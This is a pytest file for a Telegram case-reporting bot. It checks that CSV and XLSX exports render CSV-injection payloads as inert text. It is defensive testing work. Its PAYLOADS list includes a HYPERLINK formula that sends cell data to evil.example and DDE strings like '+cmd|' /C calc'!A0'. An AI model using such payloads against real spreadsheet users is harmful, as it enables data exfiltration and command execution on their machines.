"""No export runs a formula: answers such as `=HYPERLINK(...)`, `+cmd|...`, `@SUM(...)` or `-2+3`
reach every file (cases, statistics, broadcast reports; chat and command line; CSV and XLSX) as
text a spreadsheet shows, never as a live formula (issue 14, item 5; OWASP "CSV Injection")."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import sys
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import update

from bot.cli import admin
from db import broadcasts
from db.models import Case, OutboxMessage, Region
from db.roles import Role
from handlers.tables import IGNORED_FIRST, spreadsheet_safe, to_csv, to_xlsx
from tests.harness import ROOT, BotHarness

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "'=1+1",
    '"=1+1',
    "“=1+1",
    "＝1+1",
    "=cmd\x07|' /C calc'!A0",
]
KEPT = ["-2", "+6281234567", "3.5", "-0.25", "1e3", "Siti Aminah", "", "Kamboja - Sihanoukville", "a=b"]
FORMULA_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
COORDINATOR, ADMIN = 1501, 1502
VILLAGE_NAME, REGENCY_NAME = "@SUM(1+1)", "-Kubu Raya"
SUNGAI_KAKAP = "61.12.09.2001"


def dangerous(cell: str) -> bool:
    """Would a spreadsheet run this cell? (A leading ' makes it text; a plain number is data.)"""
    if cell.startswith("'"):
        return False
    try:
        float(cell)
        return False
    except ValueError:
        pass
    return cell.startswith(("\t", "\r", "\n")) or cell.lstrip(IGNORED_FIRST).startswith(FORMULA_STARTS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_starts_are_neutralised(payload: str) -> None:
    assert spreadsheet_safe(payload) == "'" + payload
    assert not dangerous(spreadsheet_safe(payload))


@pytest.mark.parametrize("value", KEPT)
def test_plain_numbers_and_text_are_kept(value: str) -> None:
    assert spreadsheet_safe(value) == value


@given(st.text())
def test_no_text_comes_out_dangerous(value: str) -> None:
    safe = spreadsheet_safe(value)
    assert safe in (value, "'" + value)
    assert not dangerous(safe)


def test_numbers_stay_numbers_in_xlsx_and_formulas_never_appear() -> None:
    book = load_workbook(io.BytesIO(to_xlsx([("t", [["n", "text"], [-2, "-2+3"], [3.5, "=1+1"]])])))
    cells = {cell.coordinate: cell for row in book["t"].iter_rows() for cell in row}
    assert cells["A2"].value == -2 and cells["A2"].data_type == "n"
    assert cells["B2"].value == "'-2+3" and cells["B3"].value == "'=1+1"
    assert all(cell.data_type != "f" for cell in cells.values())
    assert list(csv.reader(io.StringIO(to_csv([[-2, "=1+1"]]).decode("utf-8-sig")))) == [["-2", "'=1+1"]]


def xlsx_cells(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_xlsx_safe(content: bytes, expected: list[str]) -> None:
    cells = xlsx_cells(content)
    assert all(cell.data_type != "f" for cell in cells), "no formula in the workbook"
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if dangerous(text)]
    for payload in expected:  # the payload is there, shown as text, not dropped
        assert "'" + payload in texts


def assert_csv_safe(content: bytes, expected: list[str]) -> None:
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    assert not [cell for cell in cells if dangerous(cell)]
    for payload in expected:
        assert "'" + payload in cells


ANSWERS = {
    "person_name": PAYLOADS[0],
    "destination": PAYLOADS[1],
    "promised": PAYLOADS[2],
    "recruiter_name": PAYLOADS[3],
    "social_media": PAYLOADS[7],
}


async def seed(bot: BotHarness) -> None:
    """A report whose answers are formulas, a village renamed to one (a region list is imported
    from a file), and a coordinator's own broadcast text that is one."""
    core = bot.service.core
    assert core is not None
    now = bot.clock()
    async with core.sessions() as session, session.begin():
        session.add(
            Case(
                reference="TPPO-6112-000001",
                kind="missing",
                status="received",
                village_code=SUNGAI_KAKAP,
                regency_code="61.12",
                province_code="61",
                verified_source=False,
                contact_allowed=True,
                details={**ANSWERS, "home_village": SUNGAI_KAKAP, "age": "19"},
                created_at=now - timedelta(days=1),
                ack_deadline=now + timedelta(hours=1),
            )
        )
        for code, name in ((SUNGAI_KAKAP, VILLAGE_NAME), ("61.12", REGENCY_NAME)):
            await session.execute(update(Region).where(Region.code == code).values(name=name))
        record = await broadcasts.create(
            session,
            created_by="test",
            region_code="61.12",
            language="id",
            library_key=None,
            text='=HYPERLINK("http://evil.example")',
            schedule="once",
            run_at=now - timedelta(hours=1),
            weekday=None,
            local_time=None,
            timezone="Asia/Jakarta",
            created_at=now - timedelta(hours=2),
        )
        run_id = await broadcasts.start_run(session, record.id, now - timedelta(hours=1), now)
        assert run_id is not None
        await broadcasts.set_recipients(session, run_id, 1)
        session.add(
            OutboxMessage(
                idempotency_key=f"b:{run_id}:1",
                channel="telegram",
                chat_id="1",
                payload={},
                status="sent",
                next_attempt_at=now,
                created_at=now,
                priority=1,
                run_id=run_id,
            )
        )
    for account, role, region in ((COORDINATOR, Role.COORDINATOR, "61.12"), (ADMIN, Role.ADMIN, None)):
        await admin.grant(core, role, f"telegram:{account}", region)
        await bot.onboard(account)


async def test_every_export_in_chat_shows_formulas_as_text(bot: BotHarness) -> None:
    await seed(bot)
    await bot.say(COORDINATOR, "/kasus")  # the case list offers the exports
    await bot.press(COORDINATOR, "cx:csv")
    await bot.press(COORDINATOR, "cx:xlsx")
    await bot.say(COORDINATOR, "/statistik")
    await bot.press(COORDINATOR, "st:p:61.12:7")  # the week's numbers offer its XLSX
    await bot.press(COORDINATOR, "st:x:61.12:7")
    await bot.say(ADMIN, "/siaran")
    await bot.press(ADMIN, "bx:report")
    cases_csv, cases_xlsx, statistics = bot.api.documents(COORDINATOR)
    [deliveries] = bot.api.documents(ADMIN)
    assert cases_csv["filename"].endswith(".csv") and statistics["filename"].startswith("statistik")
    assert_csv_safe(cases_csv["content"], [*ANSWERS.values(), VILLAGE_NAME, REGENCY_NAME])
    assert_xlsx_safe(cases_xlsx["content"], [*ANSWERS.values(), VILLAGE_NAME, REGENCY_NAME])
    assert_xlsx_safe(statistics["content"], [REGENCY_NAME])
    assert_xlsx_safe(deliveries["content"], ['=HYPERLINK("http://evil.example")'])


async def sigap(bot: BotHarness, *args: str) -> str:
    """`sigap ARGS` as a process on the test's own database (SQLite or PostgreSQL)."""
    core = bot.service.core
    assert core is not None
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "bot.cli",
        "--config",
        str(ROOT / "config.toml"),
        *args,
        env={
            "PATH": os.environ.get("PATH", ""),
            "PYTHONPATH": str(ROOT),
            "SIGAP_DATABASE_URL": core.settings.database_url_value(),
        },
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    out, err = await process.communicate()
    assert process.returncode == 0, err.decode()
    return out.decode()


async def test_every_export_of_the_command_line_shows_formulas_as_text(
    bot: BotHarness, tmp_path: Path
) -> None:
    await seed(bot)
    files = {name: tmp_path / name for name in ("k.csv", "k.xlsx", "s.xlsx", "b.csv", "b.xlsx")}
    await sigap(bot, "cases", "export", "--format", "csv", "--output", str(files["k.csv"]))
    await sigap(bot, "cases", "export", "--format", "xlsx", "--output", str(files["k.xlsx"]))
    await sigap(bot, "stats", "--region", "61.12", "--until", "2026-11-23", "--xlsx", str(files["s.xlsx"]))
    await sigap(bot, "broadcast", "report", "--output", str(files["b.csv"]))
    await sigap(bot, "broadcast", "report", "--output", str(files["b.xlsx"]))
    assert_csv_safe(files["k.csv"].read_bytes(), [*ANSWERS.values(), VILLAGE_NAME, REGENCY_NAME])
    assert_xlsx_safe(files["k.xlsx"].read_bytes(), [*ANSWERS.values(), VILLAGE_NAME, REGENCY_NAME])
    assert_xlsx_safe(files["s.xlsx"].read_bytes(), [REGENCY_NAME])
    assert_csv_safe(files["b.csv"].read_bytes(), ['=HYPERLINK("http://evil.example")'])
    assert_xlsx_safe(files["b.xlsx"].read_bytes(), ['=HYPERLINK("http://evil.example")'])
